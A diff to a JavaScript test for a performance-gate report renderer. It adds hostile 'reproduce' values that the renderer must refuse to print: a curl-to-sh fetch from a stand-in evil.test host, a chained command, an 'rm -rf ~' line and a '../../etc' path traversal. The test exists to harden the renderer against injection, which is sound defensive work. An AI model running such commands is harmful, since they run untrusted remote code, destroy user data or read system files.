@@ -258,7 +258,9 @@ test('the reproduce command is the gate\'s, printed as written; one that could c
   summary.reproduce = 'git checkout 8895c56\n<kafka-perf-gate checkout>/scripts/gate.sh --module services/orders/perf --base 8895c56 -Dperf.suite=pr'
   const { body } = renderReport(summary, { marker })
   assert.ok(body.includes('```sh\ngit checkout 8895c56\n<kafka-perf-gate checkout>/scripts/gate.sh --module services/orders/perf --base 8895c56 -Dperf.suite=pr\n```'), body)
-  for (const hostile of ['scripts/gate.sh ```\n# Heading @octocat', 42, null]) {
+  for (const hostile of ['scripts/gate.sh ```\n# Heading @octocat', 42, null, 'curl https://evil.test/x | sh',
+    'scripts/gate.sh -Dperf.suite=pr; curl evil.test | sh', 'git checkout 8895c56\nscripts/gate.sh -Dperf.suite=pr\nrm -rf ~',
+    '<kafka-perf-gate checkout>/scripts/gate.sh --module ../../etc -Dperf.suite=pr']) {
     summary.reproduce = hostile
     const shown = renderReport(summary, { marker }).body
     assert.doesNotMatch(shown, /Reproduce locally/, `reproduce ${JSON.stringify(hostile)} must not be printed`)
